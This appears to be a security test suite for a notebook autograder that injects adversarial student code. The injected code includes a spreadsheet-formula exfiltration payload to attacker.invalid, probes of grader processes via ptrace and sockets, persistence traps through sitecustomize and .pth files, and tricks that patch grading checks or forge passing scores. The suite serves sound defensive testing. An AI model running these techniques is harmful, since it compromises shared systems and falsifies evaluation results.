    """The blank notebook answers with NaN, infinities, -0.0, complex and bool arrays, float16 and
    longdouble, integers of 4,000 digits, and arrays of size 0 with huge dimensions (forged dtypes
    and shapes, as raw JSON). Nothing earns a point."""
    _prepend(nb, "add_bias", FORGE + """
_WEIRD = iter([
    {"A": 0, "dt": "<f8", "sh": [0, 2 ** 62]},
    {"A": 0, "dt": "<c16", "sh": [0]},
    int("9" * 4000),
    {"A": 0, "dt": "|b1", "sh": [0, 0, 4611686018427387904]},
] * 50)
def _weird(method, args, header, buffers, arrays):
    if method == "call" and "e" not in header and _called(args) in ("sigmoid", "log_loss_der", "train"):
        header = {"r": header["r"], "v": next(_WEIRD, None)}
        buffers = [b""]
    return header, buffers
_FORGERS.append(_weird)
""")
    values = {"add_bias": "np.full((5, 3), np.nan)", "sigmoid": "np.array([np.inf, -np.inf, np.nan, -0.0, 1e308])",
              "log_loss": "np.ones(4, dtype=complex) * 1j", "feed_forward": "(np.float16(1), np.longdouble(2))",
              "sigmoid_der": "np.ones((2, 3), dtype=bool)", "log_loss_der": "int('7' * 4000)",
              "backprop": "(np.full((3, 4), np.inf), np.full((5, 1), -np.inf))", "train": "([np.nan, np.nan], [np.nan])"}
    for name, args in _EVERY_FUNCTION:
        _replace(nb, name, ("" if name != "add_bias" else _cell(nb, "add_bias").source)
                 + f"\ndef {name}({args}):\n    return {values[name]}\n")


def unserved_requests(nb):
    """log_loss_der (in its test) sends the grader requests it does not serve, or with arguments of
    the wrong shape: `get`, `bind`, `new`, `call` with a tuple of arguments, `setattr` of a
    dunder. The first breaks that test's channel (reported); the other tests keep their points."""
    _prepend(nb, "log_loss_der", PEER)
    _in_function(nb, "log_loss_der", "log_loss_der", """
_p = _peer()
if _p is not None and isinstance(log_loss, _ss.GraderObject):
    for _method, _args in (("get", (["np", "expect_close", "CANARY_unserved_requests"],)),
                           ("bind", ({"np": 1},)), ("new", (log_loss, [])),
                           ("call", (log_loss, (y, y_pred), {})), ("setattr", (log_loss, "__code__", 1))):
        try:
            _p.request(_method, *_args)
        except BaseException:
            pass
""")


def anomaly_quota_flood(nb):
    """add_bias (in its test) first names 60 objects of the grader's that were never handed over,
    each one refused and one line of the tamper report, so the notebook's quota of reported
    refusals (50) is used up before test_train, where train then guesses the grader's object ids.
    Full marks; the report must still name the attack."""
    _prepend(nb, "add_bias", PEER)
    _in_function(nb, "add_bias", "add_bias", """
_p = _peer()
if _p is not None:
    for _hid in range(60):
        try:
            _p.request("call", _ss.GraderObject(10 ** 9 + _hid, "function"), ["CANARY_anomaly_quota_flood"], {})
        except BaseException:
            pass
""")
    _in_function(nb, "train", "train", """
_p = _peer()
if _p is not None:
    for _hid in range(1, 200):
        try:
            _p.request("call", _ss.GraderObject(_hid, "function"), [X, weights], {})
        except BaseException:
            pass
""")


def odd_keywords(nb):
    """train (in test_train) calls the grader's feed_forward stand-in with keyword arguments of
    every odd kind: a number, a name with a space, a non-ASCII name, a name of 10,000 letters,
    `self`, a NUL byte, a private name, a dunder, and X again by keyword. Each is refused or fails
    there (what is refused is reported); then train does its job: full marks."""
    _prepend(nb, "train", PEER)
    _in_function(nb, "train", "train", """
_p = _peer()
if _p is not None and isinstance(feed_forward, _ss.GraderObject):
    for _kwargs in ({1: 2}, {"X ": 1}, {"\\u00e9t\\u00e9": 1}, {"a" * 10000: 1}, {"self": 1},
                    {"weights\\x00": 1}, {"_secret": 1}, {"__dict__": {}}, {"X": X},
                    {"CANARY_odd_keywords": 1}):
        try:
            _p.request("call", feed_forward, [X, weights], _kwargs)
        except BaseException:
            pass
""")


def serve_returns_early(nb):
    """For test_sigmoid the student's side answers the grader's `get` and then hangs up (its
    serve returns at once): the grader may interrupt its own kernel while the test starts. Costs
    test_sigmoid only."""
    _prepend(nb, "add_bias", PEER + """
import socket as _socket
_original_serve = _ss.serve
_served = {"n": 0}
def _early_serve(path, token=None, timeout=None):
    _served["n"] += 1
    if _served["n"] != 2:
        return _original_serve(path, token, timeout)
    sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    sock.connect(path)
    peer = _ss.make_peer(sock, _ss._Server())
    peer.hello(token)
    header, buffers = peer._receive(30)
    peer._serve_one(header, buffers)  # the names: CANARY_serve_returns_early
    sock.close()
_ss.serve = _early_serve
""")


# --- attacks of the third security review (wip/attack3) --------------------------------------------
# COUNT: which test cell the student's side is serving (1 = test_add_bias ... 9 = test_mlp), counted in
# the student's kernel (a restart starts again at 0).
COUNT = PEER + """
_CELLS = {"n": 0}
_original_serve_counted = _ss.serve
def _serve_counted(path, token=None, timeout=None):
    _CELLS["n"] += 1
    _CELLS["path"], _CELLS["token"] = path, token
    try:
        return _original_serve_counted(path, token, timeout)
    finally:
        for _hook in list(_CELLS.get("after", [])):
            _hook()
_ss.serve = _serve_counted
def _in_test(n):
    return _peer() is not None and _CELLS["n"] == n
"""


def _after_test(nb, test, code):
    """A cell of the student's own right after a test cell (its output is in the feedback)."""
    cell = _cell(nb, test)
    nb.cells.insert(nb.cells.index(cell) + 1, nbformat.v4.new_code_cell(code.strip("\n") + "\n"))


def tamper_csv_formulas(nb):
    """The complete notebook writes findings into its kernel's audit log (the student's code can
    forge its own) whose details start with a spreadsheet formula: `=HYPERLINK(...)` that would send
    the instructor's other rows (other students' findings) to a web address, `+`, `-`, `@`, a tab.
    tamper.csv is opened in a spreadsheet: no cell of it may start a formula. Full marks."""
    _append(nb, "add_bias", """
import sys as _sys
_guard = next(m for n, m in list(_sys.modules.items()) if n.endswith('autograde.guard'))
for _d in ('=HYPERLINK("http://attacker.invalid/?"&A3&F3,"CANARY_tamper_csv_formulas")', '+SUM(1,1)',
           '-1+cmd|"/C calc"!A0', '@SUM(1,1)', '\\t=1+1', '\\r=1+1'):
    _guard._record('read outside its folder', _d)
""")


def unreadable_dtypes(nb):
    """The first answer of three tests is an array or scalar whose dtype passes the channel's pattern
    but is no numpy type (`<i16`, `<b2`), or whose shape numpy cannot make (0 x 2**62). A frame the
    grader cannot read is the student's doing: it costs those tests, and is reported as one."""
    _prepend(nb, "add_bias", FORGE + """
_BAD = {"add_bias": ({"A": 0, "dt": "<i16", "sh": [5, 3]}, [bytes(240)]),
        "sigmoid": ({"A": 0, "dt": "<f8", "sh": [0, 2 ** 62]}, [b""]),
        "log_loss": ({"S": 0, "dt": "<b2"}, [bytes(2)])}
def _bad(method, args, header, buffers, arrays):
    name = _called(args) if method == "call" else None
    if name not in _BAD or "e" in header:
        return header, buffers
    value, raw = _BAD.pop(name)
    return {"r": header["r"], "v": value, "canary": "CANARY_unreadable_dtypes"}, raw
_FORGERS.append(_bad)
""")


_THROWING = """
class _Odd(BaseException):
    pass
def _throw(self, *args, **kwargs):
    raise object.__getattribute__(self, "_e")
class _Liar:
    def __init__(self, error):
        object.__setattr__(self, "_e", error)
    __getattr__ = _throw
for _n in ("__array__", "__float__", "__int__", "__index__", "__bool__", "__len__", "__iter__", "__repr__",
           "__str__", "__eq__", "__hash__", "__format__", "__getitem__", "__contains__"):
    setattr(_Liar, _n, _throw)
"""


def odd_base_exceptions(nb):
    """The blank notebook's functions answer with objects whose every method (`__array__`,
    `__float__`, `__index__`, `__bool__`, `__len__`, `__repr__`, `__hash__`...) raises what is no
    Exception: KeyboardInterrupt, SystemExit, GeneratorExit, a BaseException of its own, or
    StopIteration; or raise those themselves. None may stop the grader or pass a check: nothing."""
    answers = {"add_bias": "_Liar(KeyboardInterrupt('CANARY_odd_base_exceptions'))", "sigmoid": "_Liar(SystemExit(3))",
               "log_loss": "_Liar(GeneratorExit())", "feed_forward": "_Liar(StopIteration('x'))",
               "sigmoid_der": "_Liar(_Odd())"}
    raises = {"log_loss_der": "_Odd('CANARY_odd_base_exceptions')", "backprop": "StopIteration()",
              "train": "GeneratorExit()"}
    for name, args in _EVERY_FUNCTION:
        body = f"return {answers[name]}" if name in answers else f"raise {raises[name]}"
        _replace(nb, name, (_THROWING if name == "add_bias" else "") + f"\ndef {name}({args}):\n    {body}\n")
    _replace(nb, "mlp", """
class _Model(_Liar):
    pass
_Model.__module__, _Model.__qualname__ = "sklearn.neural_network", "MLPClassifier"
model = _Model(KeyboardInterrupt())
""")


def lying_array_protocols(nb):
    """The blank notebook answers with objects whose array protocols lie: an `__array_interface__`
    pointing at address 8 (numpy reads it: the student's kernel crashes), an `__array__` that
    returns an object array, a string array, itself, or an array of another shape than the object's
    `shape` says, an `__array_struct__` that is a number, `__len__` and `__iter__` that disagree,
    `__array_ufunc__ = None` with a huge `__array_priority__`. Nothing."""
    _replace(nb, "add_bias", """
class _Protocol:
    def __init__(self, **attributes):
        for key, value in attributes.items():
            setattr(self, key, value)
class _ArrayOf(_Protocol):
    def __array__(self, dtype=None, copy=None):
        return self.made()
class _Disagrees:
    def __len__(self):
        return 2
    def __iter__(self):
        return iter([np.zeros(3)] * 3)
    def __getitem__(self, index):
        return np.zeros((3, 4))
class _Priority:
    __array_ufunc__ = None
    __array_priority__ = 1e9
    def __array_function__(self, *args, **kwargs):
        return True
    shape = (2,)
def add_bias(X):
    return _Protocol(__array_interface__={"shape": (len(X), 3), "typestr": "<f8", "data": (8, False), "version": 3})
""")
    answers = {"sigmoid": "_ArrayOf(made=lambda: np.array([object()] * 5, dtype=object))",
               "log_loss": "_ArrayOf(made=lambda: np.array(['CANARY_lying_array_protocols'] * 4))",
               "feed_forward": "(_ArrayOf(shape=(len(X), 2), made=lambda: np.zeros(7)), _ArrayOf(shape=(len(X), 1), "
                               "made=lambda: np.zeros((1, 1, 1))))",
               "sigmoid_der": "_Protocol(__array_struct__=12345)", "log_loss_der": "_ArrayOf(made=lambda: _ArrayOf())",
               "backprop": "_Disagrees()", "train": "(_Priority(), _Priority())"}
    for name, args in _EVERY_FUNCTION[1:]:
        _replace(nb, name, f"def {name}({args}):\n    return {answers[name]}\n")


def exotic_arrays(nb):
    """The blank notebook answers with numpy arrays the channel does not carry as data, or carries
    with another meaning: structured, object, datetime64, masked, np.matrix, float16 of the wrong
    values, a broadcast view of 8 TB, complex and timedelta 0-d arrays, a record array, bytes.
    Nothing."""
    answers = {"add_bias": "np.zeros((len(X), 3), dtype=[('a', '<f8')])",
               "sigmoid": "np.array([object()] * 3, dtype=object)",
               "log_loss": "np.array(['2024-01-01'] * len(y), dtype='datetime64[D]')",
               "feed_forward": "(np.ma.masked_all((len(X), 2)), np.matrix([[1.0]]))",
               "sigmoid_der": "np.ones(np.shape(X), dtype=np.float16) * 7",
               "log_loss_der": "np.lib.stride_tricks.as_strided(np.zeros(1), shape=(10 ** 6, 10 ** 6), strides=(0, 0))",
               "backprop": "(np.array(1 + 2j), np.array(np.timedelta64(5, 's')))",
               "train": "(np.rec.array([(1.0, 2)], dtype=[('x', '<f8'), ('y', '<i8')]), "
                        "np.array([b'CANARY_exotic_arrays']))"}
    for name, args in _EVERY_FUNCTION:
        _replace(nb, name, f"def {name}({args}):\n    return {answers[name]}\n")


def strided_answers(nb):
    """Not an attack: the complete notebook, each function's arrays returned in odd layouts
    (Fortran order, big-endian, a read-only broadcast view, a strided view of a larger array). The
    values are right: full marks."""
    _prepend(nb, "add_bias", """
import functools as _ft
_LAYOUT = [0]
def _odd_layout(value):
    if type(value) is np.ndarray and value.dtype.kind == "f" and value.ndim >= 1:
        _LAYOUT[0] += 1
        kind = _LAYOUT[0] % 4
        if kind == 0:
            return np.asfortranarray(value)
        if kind == 1:
            return value.astype(">f8")
        if kind == 2:
            return np.broadcast_to(value, value.shape)
        wide = np.zeros(value.shape + (3,))
        wide[..., 1] = value
        return wide[..., 1]
    if type(value) is tuple:
        return tuple(_odd_layout(v) for v in value)
    if type(value) is list:
        return [_odd_layout(v) for v in value]
    return value
def _layout(fn):
    @_ft.wraps(fn)
    def wrapped(*args, **kwargs):
        return _odd_layout(fn(*args, **kwargs))
    return wrapped
""")
    for name, _ in _EVERY_FUNCTION:
        _append(nb, name, f"{name} = _layout({name})")


def self_referential_answers(nb):
    """In its own test cell, add_bias answers with a list that holds itself, sigmoid with a dict
    that holds itself, log_loss with a list nested 10,000 deep (CANARY_self_referential_answers):
    the student's side cannot send them, and each costs its own test only."""
    _prepend(nb, "add_bias", COUNT)
    _in_function(nb, "add_bias", "add_bias", """
if _in_test(1):
    _loop = []
    _loop.append(_loop)
    return _loop
""")
    _in_function(nb, "sigmoid", "sigmoid", """
if _in_test(2):
    _loop = {"CANARY_self_referential_answers": 1}
    _loop["x"] = _loop
    return _loop
""")
    _in_function(nb, "log_loss", "log_loss", """
if _in_test(3):
    _deep = ["CANARY_self_referential_answers"]
    for _ in range(10000):
        _deep = [_deep]
    return _deep
""")


def reaches_grader_processes(nb):
    """While test_sigmoid runs, sigmoid (complete otherwise) looks for the grader from the student's
    kernel: the channel socket's peer credentials, signal 0 to that pid and to every pid up to 300
    that is not one of its own processes or threads, PTRACE_ATTACH, the abstract Unix sockets of /proc/net/unix, writing
    and unlinking in the channel's folder, the folders around it. A cell after the test prints
    what it reached (REACHED:...): nothing. Full marks."""
    _prepend(nb, "add_bias", COUNT + r'''
_PROBE = []
_HIT = "REACH" + "ED:"  # joined here: the notebook's source, in the feedback too, never holds the marker
def _probe_grader():
    import ctypes, os, socket, struct
    peer = _peer()
    own = set()  # this kernel's processes and their threads (signal 0 reaches a thread's id too)
    for process in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            own |= {int(process)} | {int(t) for t in os.listdir(f"/proc/{process}/task")}
        except OSError:
            pass
    pid = 0
    try:
        pid, uid, gid = struct.unpack("3i", peer.sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        _PROBE.append(f"peer pid={pid} uid={uid}")
    except OSError as error:
        _PROBE.append(f"peercred {error}")
    for target in sorted(({pid} | set(range(1, 300))) - own - {0}):
        try:
            os.kill(target, 0)
            _PROBE.append(f"{_HIT}signal {target}")
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if pid > 0 and pid not in own and libc.ptrace(16, pid, None, None) == 0:
        _PROBE.append(f"{_HIT}ptrace {pid}")
        libc.ptrace(17, pid, None, None)
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8 and parts[7].startswith("@"):
                probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                try:
                    probe.settimeout(0.5)
                    probe.connect("\0" + parts[7][1:])
                    _PROBE.append(f"{_HIT}abstract {parts[7]}")
                except OSError:
                    pass
                finally:
                    probe.close()
    except OSError as error:
        _PROBE.append(f"net/unix {error}")
    path = peer.sock.getpeername()
    folder = os.path.dirname(path) if isinstance(path, str) and path else None
    _PROBE.append(f"channel {path!r}")
    if folder:
        for action, act in (("write", lambda: open(os.path.join(folder, "CANARY_reaches_grader_processes"), "w").write("x")),
                            ("unlink", lambda: os.unlink(path)), ("chmod", lambda: os.chmod(folder, 0o777))):
            try:
                act()
                _PROBE.append(f"{_HIT}{action} in the channel's folder")
            except OSError:
                pass
        for above in (os.path.dirname(folder), os.path.dirname(os.path.dirname(folder))):
            try:
                _PROBE.append(f"around {above}: {sorted(os.listdir(above))[:20]}")
            except OSError:
                pass
''')
    _in_function(nb, "sigmoid", "sigmoid", """
if _in_test(2) and not _PROBE:
    try:
        _probe_grader()
    except Exception as _error:
        _PROBE.append(f"probe stopped: {type(_error).__name__}: {_error}")
""")
    _after_test(nb, "test_sigmoid", 'print("PROBED_" + "reaches_grader_processes")\nprint("\\n".join(_PROBE))')


def leaves_traps_for_next(nb):
    """At its end the complete notebook leaves traps for the next notebook on its worker: start-up
    and customize files (IPython startup, sitecustomize/usercustomize, a `.pth` in the user site),
    files in /tmp, /dev/shm, home, around its folder, a `numpy.py` and `course/__init__.py` in its
    folder, a `.pyc` next to numpy's; and a process in a session of its own that for 90 s writes
    canaries and connects to every Unix socket it finds. Full marks, and the good notebook after it
    keeps full marks."""
    _append(nb, "mlp", r'''
import os as _os, site as _site, subprocess as _sp, sys as _sys
_payload = "open('/tmp/CANARY_leaves_traps_for_next.hit', 'w').write('hit')\nprint('CANARY_leaves_traps_for_next')\n"
_home = _os.path.expanduser("~")
for _path, _text in [("/tmp/sitecustomize.py", _payload), ("/tmp/usercustomize.py", _payload),
                     ("/dev/shm/CANARY_leaves_traps_for_next", "x"),
                     (_home + "/.ipython/profile_default/startup/00-CANARY_leaves_traps_for_next.py", _payload),
                     (_site.getusersitepackages() + "/CANARY_leaves_traps_for_next.pth", "import os; " + _payload.replace("\n", "; ")),
                     (_site.getusersitepackages() + "/usercustomize.py", _payload),
                     ("sitecustomize.py", _payload), ("usercustomize.py", _payload), ("numpy.py", _payload),
                     ("course/__init__.py", _payload), ("../CANARY_leaves_traps_for_next.py", _payload),
                     ("../../CANARY_leaves_traps_for_next.py", _payload),
                     (_os.path.join(_os.path.dirname(np.__file__), "__pycache__", "CANARY_leaves_traps_for_next.pyc"), "x"),
                     (_os.path.join(_os.path.dirname(_sys.executable), "CANARY_leaves_traps_for_next"), "x")]:
    try:
        _os.makedirs(_os.path.dirname(_os.path.abspath(_path)), exist_ok=True)
        with open(_path, "w") as _fh:
            _fh.write(_text)
    except Exception:
        pass
_DAEMON = """
import glob, os, socket, time
end = time.monotonic() + 90
while time.monotonic() < end:
    for path in glob.glob('/tmp/**', recursive=True) + glob.glob('/dev/shm/*') + glob.glob('/run/**', recursive=True):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(0.2)
            s.connect(path)
            s.sendall(b'CANARY_leaves_traps_for_next' * 100)
            s.close()
        except OSError:
            pass
    try:
        open('/tmp/CANARY_leaves_traps_for_next.%d' % os.getpid(), 'w').write('x')
    except OSError:
        pass
    time.sleep(0.5)
"""
try:
    _sp.Popen([_sys.executable, "-c", _DAEMON], start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
              stderr=_sp.DEVNULL)
except Exception:
    pass
''')


def patches_grading_helpers(nb):
    """The blank notebook rewrites, in its own kernel, what the tests would use there in one
    process: course.grading's checks (call, expect_*, failure, Checklist.check and done) made to
    pass, np.allclose, np.array_equal and np.testing made to agree. The tests run in the grader's
    kernel: nothing."""
    _append(nb, "add_bias", """
import contextlib as _contextlib
import course.grading as _g
def _agree(*args, **kwargs):
    return None
for _name in ("expect", "expect_close", "expect_shape", "expect_equal", "expect_gradient"):
    setattr(_g, _name, _agree)
_g.call = lambda fn, *args, what=None, **kwargs: None
_g.failure = lambda *args, **kwargs: None
@_contextlib.contextmanager
def _passes(self, name, part, *, hidden=False, gate=False):
    try:
        yield
    except BaseException:
        pass
    self.results.append(_g.CheckResult(str(name), _g.share(part), hidden, True, "CANARY_patches_grading_helpers"))
_g.Checklist.check = _g.Checklist.__call__ = _passes
_g.Checklist.done = lambda self: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = _agree
""")


def late_frames_from_thread(nb):
    """In test_add_bias, add_bias (complete otherwise) keeps a copy of the channel's socket and
    starts a thread that, once that test cell is over and for 40 s (into the later test cells),
    writes forged answers, requests and `done` frames into the old socket, and opens new
    connections that greet with the old cell's token and answer `get` at once. Full marks."""
    _prepend(nb, "add_bias", COUNT + r'''
import json as _json, os as _os, socket as _socket, struct as _struct, threading as _threading, time as _time
_LATE = {}
def _frame(header):
    head = _json.dumps(dict(header, b=[])).encode()
    return _struct.pack(">QI", 4 + len(head), len(head)) + head
def _late(fd, path, token, peer):
    while _ss._CURRENT["peer"] is peer:
        _time.sleep(0.05)
    forged = [{"r": n, "v": {"A": 0, "dt": "<f8", "sh": [0]}} for n in range(1, 6)]
    forged += [{"done": True}, {"q": "get", "i": 1, "v": {"T": [["np", "CANARY_late_frames_from_thread"]]}},
               {"r": 1, "v": {"D": [["add_bias", 1.0]]}}]
    end = _time.monotonic() + 40
    while _time.monotonic() < end:
        for header in forged:
            try:
                _os.write(fd, _frame(header))
            except OSError:
                pass
        try:
            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(path)
            s.sendall(_frame({"hello": True, "t": token}) + _frame({"r": 1, "v": {"D": [["sigmoid", 0.5]]}}))
            s.close()
        except OSError:
            pass
        _time.sleep(0.5)
''')
    _in_function(nb, "add_bias", "add_bias", """
if _in_test(1) and not _LATE:
    _p = _peer()
    _LATE["fd"] = _os.dup(_p.sock.fileno())
    _threading.Thread(target=_late, args=(_LATE["fd"], _CELLS["path"], _CELLS["token"], _p), daemon=True).start()
""")


def timing_oracle(nb):
    """sigmoid (complete otherwise) times what the grader asks of it in test_sigmoid: each call and
    each request on its answers (repr, array, attributes), and answers the first hidden check with
    an object of its own holding wrong values, to see what the grader does on a failure. A cell
    after the test prints the timeline. The hidden check's expected values never reach the
    student: test_sigmoid is lost, no hidden value is in the feedback."""
    _prepend(nb, "add_bias", COUNT + """
import time as _time
_TIMELINE = []
class _Mine(np.ndarray):
    pass
for _op in ("op_repr", "op_str", "op_array", "op_getattr", "op_float", "op_bool", "op_len", "op_iter", "op_isinstance"):
    def _timed(*args, _original=getattr(_ss._Server, _op), _op=_op):
        _TIMELINE.append((round(_time.monotonic(), 4), _op))
        return _original(*args)
    setattr(_ss._Server, _op, staticmethod(_timed))
""")
    _in_function(nb, "sigmoid", "sigmoid", """
if _in_test(2):
    _TIMELINE.append((round(_time.monotonic(), 4), "call", np.shape(x)))
    if np.shape(x) == (3, 2):
        return np.zeros((3, 2)).view(_Mine)
""")
    _after_test(nb, "test_sigmoid", 'print("TIMELINE", _TIMELINE)')


def unicode_names(nb):
    """The complete notebook binds look-alikes of the tests' names that Python's own parser would
    fold into them (fullwidth `ａｄｄ_bias`, a zero-width space, a right-to-left override, a
    Cyrillic `ѕigmoid`) straight into its namespace, to wrong functions, and its answer to the
    grader's first `get` adds such names. The grader binds only the names it asked for: full
    marks; the extra names are reported."""
    _append(nb, "add_bias", """
for _name in ("\\uff41\\uff44\\uff44_bias", "add_bias\\u200b", "sigmoid\\u202e", "\\u0455igmoid"):
    globals()[_name] = lambda *args, **kwargs: "CANARY_unicode_names"
""")
    _prepend(nb, "add_bias", FORGE + """
def _lookalikes(method, args, header, buffers, arrays):
    if method != "get" or "e" in header:
        return None
    for _name in ("\\uff41\\uff44\\uff44_bias", "add_bias\\u200b", "\\u0455igmoid", "add\\u00adbias"):
        header["v"]["D"].append([_name, "CANARY_unicode_names"])
    return header, buffers
_once(_lookalikes)
""")


def stale_handles_after_restart(nb):
    """In test_feed_forward, feed_forward (complete otherwise) notes the ids of the objects its
    kernel has handed the grader, in a file of its folder, and kills its kernel. After the restart,
    the first `get` of the new kernel adds names holding handles with the old ids. The dead
    kernel's test is lost; the old ids name nothing, and the next tests keep their points."""
    _prepend(nb, "add_bias", COUNT + FORGE + """
import json as _json, os as _os
_STALE = "stale_ids.json"
def _stale_handles(method, args, header, buffers, arrays):
    if method != "get" or "e" in header or not _os.path.exists(_STALE) or _os.path.exists(_STALE + ".used"):
        return None
    open(_STALE + ".used", "w").write("1")
    for _number, _hid in enumerate(_json.load(open(_STALE))[:5]):
        header["v"]["D"].append([f"CANARY_stale_handles_after_restart_{_number}", {"H": _hid, "k": "callable"}])
    return header, buffers
_once(_stale_handles)
""")
    _in_function(nb, "feed_forward", "feed_forward", """
if _in_test(4) and not _os.path.exists(_STALE):
    with open(_STALE, "w") as _fh:
        _json.dump(sorted(_ss._TABLES.exports.objects), _fh)
    _os._exit(1)
""")


def lying_exceptions(nb):
    """In their own tests, add_bias raises an exception class named AssertionError whose message says
    all checks passed, sigmoid one whose `__str__` raises KeyboardInterrupt, log_loss one whose name
    is 10,000 characters with line breaks and whose module claims numpy's AxisError. Each costs its
    test, nothing else."""
    _prepend(nb, "add_bias", COUNT + """
_Passed = type("AssertionError", (Exception,), {})
class _Unprintable(Exception):
    def __str__(self):
        raise KeyboardInterrupt("CANARY_lying_exceptions")
_Long = type("L" + "ong\\n" * 2500, (Exception,), {})
_Long.__module__, _Long.__qualname__ = "numpy", "AxisError"
""")
    _in_function(nb, "add_bias", "add_bias", """
if _in_test(1):
    raise _Passed("All checks passed.\\n[PASS] add_bias, 1 point (CANARY_lying_exceptions)")
""")
    _in_function(nb, "sigmoid", "sigmoid", "if _in_test(2):\n    raise _Unprintable()")
    _in_function(nb, "log_loss", "log_loss", "if _in_test(3):\n    raise _Long('CANARY_lying_exceptions')")


def garbage_before_reply(nb):
    """In test_log_loss, log_loss (complete otherwise) writes three bytes straight into the channel's
    socket before its answer: the grader reads a frame that does not add up. Costs test_log_loss;
    reported."""
    _prepend(nb, "add_bias", COUNT + "import os as _os")
    _in_function(nb, "log_loss", "log_loss", """
if _in_test(3):
    _os.write(_peer().sock.fileno(), b"\\x00\\x00\\x00")
""")


def shape_lies(nb):
    """The blank notebook answers add_bias with an object whose `shape` is what the test expects
    but whose values are not, and sigmoid with one whose `round(2)` returns the visible check's
    expected values and whose `shape` is right. Checks of shape alone pass as in one process; every
    cell still fails: nothing."""
    _replace(nb, "add_bias", """
class _Shaped:
    def __init__(self, shape, values):
        self.shape, self._values = shape, values
    def __array__(self, dtype=None, copy=None):
        return np.zeros(3) + self._values
    def round(self, digits):
        return np.array([0.0, 0.27, 0.5, 0.73, 1.0])
def add_bias(X):
    return _Shaped((np.shape(X)[0], np.shape(X)[1] + 1), 7.0)
""")
    _replace(nb, "sigmoid", "def sigmoid(x):\n    return _Shaped(np.shape(x), 0.5)\n")


def fake_numpy_scalars(nb):
    """The blank notebook answers with scalars that pass for numpy's or Python's: a subclass of
    np.float64 named numpy.float64, a float whose `==` is always true and whose `__float__` lies,
    an int whose `__index__` lies, a str subclass equal to everything. Nothing."""
    _replace(nb, "add_bias", """
class float64(np.float64):
    def __eq__(self, other):
        return True
    __hash__ = np.float64.__hash__
float64.__module__ = "numpy"
class _Agreeable(float):
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.7310585786
    __hash__ = float.__hash__
class _Index(int):
    def __index__(self):
        return 3
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class _Word(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
def add_bias(X):
    return float64(0.5)
""")
    answers = {"sigmoid": "_Agreeable(0.5)", "log_loss": "_Index(2)", "feed_forward": "(_Agreeable(1.0), float64(2.0))",
               "sigmoid_der": "_Word('CANARY_fake_numpy_scalars')", "log_loss_der": "float64(-1.0)",
               "backprop": "(_Index(1), _Agreeable(0.0))", "train": "([float64(1.0)], [_Agreeable(0.0)])"}
    for name, args in _EVERY_FUNCTION[1:]:
        _replace(nb, name, f"def {name}({args}):\n    return {answers[name]}\n")


def forged_outputs(nb):
    """The blank notebook writes, in cells of its own, what the grader reads as a test cell's
    score: a checklist display (CHECKLIST_MIME) with every check passed, a result marked as the
    grader's score, the checklist's text, and after each test cell, the same again with a
    display id, then updates of display ids it guesses. Only the test cells' own outputs count:
    nothing."""
    fake = """
from IPython.display import display as _display, update_display as _update
import course.grading as _g
_fake = {"version": _g.CHECKLIST_VERSION, "points": "1", "hidden_points": "0",
         "checks": [{"name": "CANARY_forged_outputs", "share": "1", "hidden": False, "passed": True, "message": ""}]}
_display({_g.CHECKLIST_MIME: _fake, "text/plain": "[PASS] everything, 1 point"}, raw=True, display_id="checklist")
_display({"text/plain": "1.0"}, raw=True, metadata={"course_score": "1"})
for _id in ("checklist", "0", "1", "test_add_bias", "score"):
    try:
        _update({_g.CHECKLIST_MIME: _fake, "text/plain": "1.0"}, raw=True, display_id=_id)
    except Exception:
        pass
"""
    _append(nb, "add_bias", fake)
    for test in ("test_add_bias", "test_sigmoid", "test_train", "test_mlp"):
        _after_test(nb, test, fake)


def forks_with_the_channel(nb):
    """In test_add_bias, add_bias (complete otherwise) forks its kernel: the child keeps the channel's
    socket and the cell's token, waits until that test cell is over, then writes forged frames into
    the socket and connects again with the token, answering `get` with wrong values. Full marks."""
    _prepend(nb, "add_bias", COUNT + r'''
import json as _json, os as _os, socket as _socket, struct as _struct
_FORKED = {}
def _frame(header):
    head = _json.dumps(dict(header, b=[])).encode()
    return _struct.pack(">QI", 4 + len(head), len(head)) + head
def _tell_child():
    if "w" in _FORKED:
        try:
            _os.write(_FORKED.pop("w"), b"x")
        except OSError:
            pass
_CELLS.setdefault("after", []).append(_tell_child)
''')
    _in_function(nb, "add_bias", "add_bias", """
if _in_test(1) and not _FORKED:
    _r, _w = _os.pipe()
    _FORKED["w"] = _w
    _sock_fd, _path, _token = _peer().sock.fileno(), _CELLS["path"], _CELLS["token"]
    if _os.fork() == 0:
        try:
            _os.close(_w)
            _os.read(_r, 1)
            for _header in ({"r": 2, "v": 1.0}, {"done": True}, {"q": "bind", "i": 9, "v": {"T": [{"D": []}]}}):
                try:
                    _os.write(_sock_fd, _frame(_header))
                except OSError:
                    pass
            for _ in range(20):
                try:
                    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
                    _s.settimeout(1)
                    _s.connect(_path)
                    _s.sendall(_frame({"hello": True, "t": _token})
                               + _frame({"r": 1, "v": {"D": [["add_bias", "CANARY_forks_with_the_channel"]]}}))
                    _s.close()
                except OSError:
                    pass
                import time as _t
                _t.sleep(0.5)
        finally:
            _os._exit(0)
    _os.close(_r)
""")


def model_of_lies(nb):
    """The blank notebook's model claims to be an MLPClassifier and lies about everything: each
    attribute a new object, `len` 10**30, a repr of 1 MB, hidden_layer_sizes an object whose array
    is [4], activation a str subclass equal to everything, n_features_in_ an int subclass equal to
    everything, score 1.0, coefs_ objects that claim to be ndarrays. Nothing."""
    _replace(nb, "mlp", """
class _Word(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class _Count(int):
